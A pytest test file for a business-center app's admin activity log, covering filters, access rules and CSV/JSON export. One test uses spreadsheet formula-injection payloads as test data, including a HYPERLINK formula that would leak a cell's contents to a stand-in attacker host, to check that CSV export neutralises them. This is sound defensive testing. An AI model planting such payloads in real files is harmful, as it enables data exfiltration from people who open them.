"""Reading the activity log as an Admin does: by time, category and person; and exporting it."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone

from bizcenter.audit.models import AuditEvent, Category
from bizcenter.audit.services import EXPORT_FIELDS, activity, build, export
from bizcenter.centers.services import create_center, revoke_member, update_center, update_member
from bizcenter.core.actor import Actor
from bizcenter.core.errors import InvalidInput, NotAllowed, NotFound
from bizcenter.invitations import services as invitations
from tests.conftest import act, token_of

pytestmark = pytest.mark.usefixtures("quick_hashing")


@pytest.fixture
def start():
    return timezone.now().replace(microsecond=0) + timedelta(minutes=1)


@pytest.fixture
def story(center, as_owner, make_user, start):
    """Five days in Brand Co, one change a day at noon-like exact moments."""
    def on(day):
        return time_machine.travel(start + timedelta(days=day), tick=False)

    with on(1):
        [result] = invitations.invite(as_owner, center, ["pat@agency.com"])
    with on(2):
        pat = make_user("pat@agency.com", name="Pat Partner")
        membership = invitations.accept(act(pat), token_of(result.link))
    with on(3):
        update_center(as_owner, center, name="Brand Co Global")
    with on(4):
        update_member(as_owner, center, membership.pk, role="ADMIN")
    with on(5):
        update_center(act(pat), center, currency="EUR")
    return {"pat": pat, "membership": membership}


def actions(events) -> list[str]:
    return [e.action for e in events]


def test_the_whole_log_newest_first(center, as_owner, story):
    assert actions(activity(as_owner, center)) == [
        "center.updated", "member.updated", "center.updated", "invitation.accepted",
        "invitation.sent", "member.added", "center.created"]


def test_time_range_includes_its_start_and_excludes_its_end(center, as_owner, story, start):
    window = activity(as_owner, center, since=start + timedelta(days=2),
                      until=start + timedelta(days=4))
    assert actions(window) == ["center.updated", "invitation.accepted"]
    assert actions(activity(as_owner, center, since=start + timedelta(days=4))) == [
        "center.updated", "member.updated"]
    assert actions(activity(as_owner, center, until=start + timedelta(days=1, seconds=1))) == [
        "invitation.sent", "member.added", "center.created"]
    assert actions(activity(as_owner, center, since=start + timedelta(days=6))) == []


def test_a_backwards_time_range_is_refused(center, as_owner, story, start):
    with pytest.raises(InvalidInput) as refused:
        activity(as_owner, center, since=start + timedelta(days=3), until=start)
    assert refused.value.message == "The start of the time range is not before its end; swap them."
    assert "since" in refused.value.fields


def test_filter_by_category_in_any_case(center, as_owner, story):
    assert actions(activity(as_owner, center, category="business")) == [
        "center.updated", "center.updated", "center.created"]
    assert actions(activity(as_owner, center, category=Category.USER)) == [
        "member.updated", "invitation.accepted", "invitation.sent", "member.added"]
    assert actions(activity(as_owner, center, category="ASSET")) == []


@pytest.mark.parametrize("category", ["GOSSIP", "users", "billing"])
def test_an_unknown_category_is_refused_listing_the_categories(center, as_owner, category):
    with pytest.raises(InvalidInput) as refused:
        activity(as_owner, center, category=category)
    assert f"Unknown category '{category}'" in refused.value.message
    assert "USER, ACCOUNT, ASSET, BUSINESS" in refused.value.message
    assert refused.value.fields == {"category": "unknown"}


def test_filter_by_actor(center, as_owner, owner, story):
    pat = story["pat"]
    assert actions(activity(as_owner, center, actor_id=pat.pk)) == [
        "center.updated", "invitation.accepted"]
    assert actions(activity(as_owner, center, actor_id=pat.pk, category="BUSINESS")) == [
        "center.updated"]
    by_owner = activity(as_owner, center, actor_id=owner.pk)
    assert {e.actor for e in by_owner} == {owner}
    assert by_owner.count() == 5


def test_filter_by_the_address_of_who_acted(center, as_owner, owner, story):
    pat = story["pat"]
    by_address = activity(as_owner, center, person=pat.email.upper())
    assert actions(by_address) == actions(activity(as_owner, center, actor_id=pat.pk))
    # No account, or an account that did nothing here: the same empty answer.
    assert not activity(as_owner, center, person="ghost@nowhere.com").exists()
    with pytest.raises(InvalidInput) as refused:
        activity(as_owner, center, person="ghost")
    assert refused.value.fields == {"person": "not an email or phone"}


def test_filters_combine(center, as_owner, owner, story, start):
    events = activity(as_owner, center, actor_id=owner.pk, category="business",
                      since=start + timedelta(days=1))
    [rename] = events
    assert (rename.before, rename.after) == ({"name": "Brand Co"}, {"name": "Brand Co Global"})
    assert rename.created_at == start + timedelta(days=3)
    assert actions(activity(as_owner, center, action="member.updated")) == ["member.updated"]


def test_each_event_tells_who_what_target_when_and_from_where(center, as_owner, story, start):
    [event] = activity(as_owner, center, actor_id=story["pat"].pk, category="BUSINESS")
    assert event.actor_label == "Pat Partner <pat@agency.com>"
    assert (event.ip, event.via) == ("198.51.100.1", "test")
    assert event.target_label == "Brand Co Global"
    assert (event.before, event.after) == ({"currency": "USD"}, {"currency": "EUR"})
    assert event.created_at == start + timedelta(days=5)


def test_the_log_of_another_center_is_not_mixed_in(center, as_owner, owner, story):
    other = create_center(Actor(owner), name="Other Co")
    update_center(Actor(owner), other, currency="JPY")
    assert "Other Co" not in {e.target_label for e in activity(as_owner, center)}
    assert actions(activity(Actor(owner), other)) == [
        "center.updated", "member.added", "center.created"]


# -- who may read it -------------------------------------------------------------------


def test_a_standard_member_cannot_read_the_log(center, as_owner, make_user):
    [result] = invitations.invite(as_owner, center, ["std@agency.com"])
    std = make_user("std@agency.com")
    invitations.accept(act(std), token_of(result.link))
    with pytest.raises(NotAllowed) as refused:
        activity(act(std), center)
    assert refused.value.code == "admins_only"
    assert "can read the activity log" in refused.value.message


def test_an_admin_partner_reads_it_until_revoked(center, as_owner, story):
    pat = story["pat"]  # made Admin on day 4
    assert activity(act(pat), center).count() == 7
    revoke_member(as_owner, center, story["membership"].pk)
    with pytest.raises(NotFound):
        activity(act(pat), center)


def test_an_outsider_cannot_read_the_log(center, make_user):
    with pytest.raises(NotFound):
        activity(act(make_user("outsider@else.com")), center)


# -- export ------------------------------------------------------------------------------


def read_csv(events) -> list[dict[str, str]]:
    text = "".join(export(events, "csv"))
    assert text.splitlines()[0] == ",".join(EXPORT_FIELDS)
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_has_one_row_per_event(center, as_owner, owner, story):
    events = activity(as_owner, center)
    rows = read_csv(events)
    assert [r["action"] for r in rows] == actions(events)
    rename = next(r for r in rows if r["action"] == "center.updated"
                  and r["actor_id"] == str(owner.pk))
    assert rename["category"] == "BUSINESS"
    assert rename["actor_label"] == "Olivia Owner <owner@brand.com>"
    assert rename["ip"] == "203.0.113.7"
    assert json.loads(rename["before"]) == {"name": "Brand Co"}
    assert json.loads(rename["after"]) == {"name": "Brand Co Global"}


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
])
def test_csv_export_defuses_spreadsheet_formulas(owner, name):
    center = create_center(Actor(owner, ip="203.0.113.7"), name=name)
    events = activity(Actor(owner), center, action="center.created")
    [row] = read_csv(events)
    assert row["target_label"] == "'" + name
    # The JSON export keeps the exact text: it is not read by spreadsheets.
    [line] = "".join(export(events, "json")).splitlines()
    assert json.loads(line)["target_label"] == name


def test_csv_export_leaves_ordinary_text_alone(center, as_owner):
    [row] = read_csv(activity(as_owner, center, action="center.created"))
    assert row["target_label"] == "Brand Co"
    assert row["actor_label"] == "Olivia Owner <owner@brand.com>"


def test_json_export_is_one_object_per_line(center, as_owner, story):
    events = activity(as_owner, center)
    lines = "".join(export(events, "json")).splitlines()
    rows = [json.loads(line) for line in lines]
    assert len(rows) == events.count() == 7
    assert all(set(row) == set(EXPORT_FIELDS) for row in rows)
    newest = rows[0]
    assert (newest["action"], newest["before"], newest["after"]) == (
        "center.updated", {"currency": "USD"}, {"currency": "EUR"})
    assert newest["actor_id"] == str(story["pat"].pk)
    # The time stamps read back as the moments the changes happened.
    assert [r["created_at"] for r in rows] == [e.created_at.isoformat() for e in events]


def test_export_of_a_filtered_log(center, as_owner, story):
    rows = read_csv(activity(as_owner, center, actor_id=story["pat"].pk))
    assert [r["action"] for r in rows] == ["center.updated", "invitation.accepted"]


def test_a_large_log_is_exported_in_chunks_without_losing_rows(center, as_owner):
    AuditEvent.objects.bulk_create(
        build(as_owner, center=center, category=Category.BUSINESS, action="center.updated",
              target=center, before={"note": "x" * 200}, after={"n": i})
        for i in range(600)
    )
    events = activity(as_owner, center)
    chunks = list(export(events, "csv"))
    assert len(chunks) > 1
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert len(rows) == events.count() == 602
    assert sorted(json.loads(r["after"])["n"] for r in rows if r["action"] == "center.updated"
                  ) == list(range(600))


@pytest.mark.parametrize("fmt", ["xlsx", "pdf", ""])
def test_an_unknown_export_format_is_refused(center, as_owner, fmt):
    with pytest.raises(InvalidInput) as refused:
        list(export(activity(as_owner, center), fmt))
    assert "Use csv or json" in refused.value.message
